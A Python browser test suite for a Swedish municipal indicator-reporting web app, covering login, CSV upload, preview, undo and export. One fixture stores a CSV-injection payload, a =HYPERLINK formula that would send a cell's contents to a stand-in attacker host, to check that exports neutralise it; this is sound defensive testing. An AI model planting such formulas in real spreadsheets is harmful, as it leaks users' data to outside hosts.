"""A coordinator in a real browser: log in, download the template, upload a corrected file,
read the preview, confirm, see the new value on the municipality page, undo, log out.
Every request stays on 127.0.0.1. The server runs over its own demo-database copy that
already holds the account."""
from __future__ import annotations

import io
import re

import pandas as pd
import pytest

from indicators.auth import users
from indicators.ingest import comments
from indicators.text.tables import to_excel_csv
from indicators.text.numbers import parse_number
from indicators.store import open_store
from tests.e2e.conftest import demo_copy, screenshot, serve, wait_for_app

pytestmark = pytest.mark.browser
PASSWORD = "ett-långt-lösenord"
INDICATOR = "GN.9a"
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"Klicka här")'


@pytest.fixture(scope="module")
def reporting_server(demo_db_template, tmp_path_factory):
    """`streamlit run app.py` over a demo copy that already holds the account anna (Borås, 1490)."""
    db = demo_copy(demo_db_template, tmp_path_factory, "reporting_server")
    store = open_store(db)
    users.add_account(store, users.User("setup", "admin"), "anna", PASSWORD, "reporter", ["1490"])
    comments.add_comment(store, users.User("setup", "admin"), "1490", "GN.7", FORMULA)
    store.close()
    with serve(db) as server:
        yield server


def log_in(page, url: str) -> None:
    page.goto(url)
    wait_for_app(page)
    page.get_by_label("Användarnamn").fill("anna")
    page.get_by_label("Lösenord").fill(PASSWORD)
    page.get_by_role("button", name="Logga in").click()
    try:
        page.get_by_text("Inloggad: anna (rapportör)").wait_for(timeout=30_000)
    except Exception:
        screenshot(page, "reporting_login_failed")
        raise


def corrected_file(template: bytes, path) -> float:
    """Fill in one value near last year's (as a coordinator would) and save it like Excel."""
    frame = pd.read_csv(io.BytesIO(template), sep=";", dtype=str, encoding="utf-8-sig", keep_default_na=False)
    hint_col = next(c for c in frame.columns if "ledtråd" in c)
    row = frame["indikator"] == INDICATOR
    new = round(parse_number(frame.loc[row, hint_col].iloc[0]) * 1.02 + 1.0)
    frame.loc[row, "värde"] = str(new)
    frame.loc[row, "kommentar"] = "Korrigerat efter ny avläsning"
    path.write_bytes(to_excel_csv(frame))
    return float(new)


def shows_value(page, value: float) -> bool:
    """Is the value drawn in a chart (plotly's data, also base64-packed arrays) or written on the page?"""
    return page.evaluate("""(v) => {
        const near = (x) => Math.abs(Number(x) - v) < 1e-6;
        const decode = (y) => {
            if (y && y.bdata) { const b = Uint8Array.from(atob(y.bdata), c => c.charCodeAt(0));
                const T = {f8: Float64Array, f4: Float32Array, i4: Int32Array, i2: Int16Array, i1: Int8Array,
                           u4: Uint32Array, u2: Uint16Array, u1: Uint8Array}[y.dtype] || Float64Array;
                return Array.from(new T(b.buffer)); }
            return Array.from(y || []);
        };
        for (const gd of document.querySelectorAll('.js-plotly-plot')) {
            for (const tr of [...(gd.data || []), ...(gd._fullData || [])]) {
                if (decode(tr.y).some(near) || decode(tr.x).some(near) || decode(tr.z).some(near)) return true;
            }
        }
        const text = document.body.innerText.replace(/[\\u00a0\\u202f\\u2009 ]/g, '');
        return text.includes(String(v));
    }""", value)


def test_coordinator_reports_sees_the_value_and_undoes_it(reporting_server, page, offsite_requests, tmp_path):
    url = reporting_server["url"]
    log_in(page, url + "/rapportera?year=2024")
    page.get_by_text("1. Hämta mallen").wait_for()
    screenshot(page, "reporting_logged_in")

    with page.expect_download() as info:
        page.get_by_role("button", name="Ladda ner CSV (Excel)").click()
    template = (tmp_path / "mall.csv")
    info.value.save_as(template)
    raw = template.read_bytes()
    assert raw.startswith("\ufeff".encode()) and "kommunkod;indikator;år;värde;kommentar".encode() in raw
    assert b"1490;GN.9a;2024;" in raw

    upload = tmp_path / "rapport_1490_2024.csv"
    new_value = corrected_file(raw, upload)
    uploader = page.locator('[data-testid="stFileUploader"]')
    page.wait_for_function("() => (document.querySelector('[data-testid=stFileUploader]') || {innerText: ''})"
                           ".innerText.includes('Välj fil')", timeout=30_000)   # Streamlit's own English, in Swedish
    assert "Högst 20 MB per fil" in uploader.inner_text() and "200MB" not in uploader.inner_text()
    assert "Upload" not in uploader.inner_text() and "per file" not in uploader.inner_text()
    page.locator('[data-testid="stFileUploader"] input[type="file"]').set_input_files(str(upload))
    page.get_by_text("3. Förhandsgranska och bekräfta").wait_for(timeout=30_000)
    page.get_by_text("0 nya, 1 ändrade och 0 oförändrade värden.").wait_for()
    # the file's size as a Swede writes it ("0,9 kB", not Streamlit's "0.9KB")
    page.wait_for_function("() => /\\d+(,\\d)?\\u00a0(B|kB)/.test(document.querySelector('[data-testid=stFileUploader]')"
                           ".innerText)", timeout=30_000)
    assert not re.search(r"\d\.\d|KB|\dB", uploader.inner_text()), uploader.inner_text()
    screenshot(page, "reporting_preview")
    page.get_by_role("button", name="Bekräfta och spara").click()
    page.get_by_text("Sparat som uppladdning #1").wait_for(timeout=30_000)
    assert page.locator('[data-testid="stException"]').count() == 0

    page.goto(url + "/kommun?kommun=1490")
    wait_for_app(page)
    page.wait_for_function("() => document.querySelectorAll('.js-plotly-plot').length > 0", timeout=30_000)
    page.wait_for_timeout(500)
    assert shows_value(page, new_value), f"{new_value} is not on the municipality page"
    screenshot(page, "reporting_kommun_after_commit")

    page.goto(url + "/uppladdningar")                    # opened by its URL: still logged in
    wait_for_app(page)
    page.get_by_text("Inloggad: anna (rapportör)").wait_for(timeout=30_000)
    page.get_by_role("button", name="Ångra uppladdningen").click()
    page.get_by_text("Uppladdning #1 är ångrad: 1 värden återställda").wait_for(timeout=30_000)
    screenshot(page, "reporting_reverted")
    page.get_by_role("button", name="Logga ut").click()
    page.get_by_label("Användarnamn").wait_for()

    page.goto(url + "/kommun?kommun=1490")
    wait_for_app(page)
    page.wait_for_function("() => document.querySelectorAll('.js-plotly-plot').length > 0", timeout=30_000)
    page.wait_for_timeout(500)
    assert not shows_value(page, new_value)
    assert page.locator('[data-testid="stException"]').count() == 0
    assert offsite_requests == []


def test_status_board_is_public_in_the_browser(reporting_server, page, offsite_requests):
    page.goto(reporting_server["url"] + "/rapporteringsstatus")
    wait_for_app(page)
    page.get_by_text("Per medlem").wait_for()
    screenshot(page, "reporting_status")
    page.get_by_role("button", name="Ladda ner CSV (Excel)").wait_for()
    assert page.locator('[data-testid="stException"]').count() == 0
    assert offsite_requests == []


def test_no_table_offers_streamlits_raw_csv_download_and_our_buttons_neutralise_formulas(
        reporting_server, page, offsite_requests, tmp_path):
    """Streamlit's table toolbar would write =HYPERLINK(...) raw into a colleague's spreadsheet;
    it is turned off (client.disableDataExport) and the page's own buttons neutralise the cell."""
    log_in(page, reporting_server["url"] + "/rapportera")
    page.get_by_role("tab", name="Kommentarer").click()
    table = page.locator('[data-testid="stDataFrame"]').filter(has_text="HYPERLINK").first
    table.wait_for(timeout=30_000)
    table.hover()
    page.wait_for_timeout(800)
    toolbar = page.locator('[data-testid="stElementToolbar"]').filter(visible=True)
    assert toolbar.count() >= 1, "the table toolbar did not appear on hover"
    screenshot(page, "reporting_comments_toolbar")
    labels = [b.get_attribute("aria-label") or b.inner_text() for b in toolbar.locator("button").all()]
    assert labels and not any("download" in (label or "").lower() for label in labels), labels
    with page.expect_download() as info:
        page.get_by_role("button", name="Ladda ner CSV (Excel)").click()
    path = tmp_path / "kommentarer.csv"
    info.value.save_as(path)
    text = path.read_bytes().decode("utf-8-sig")
    assert "'" + FORMULA.replace('"', '""') in text and ";=HYPERLINK" not in text and ";\"=HYPERLINK" not in text
    assert offsite_requests == []
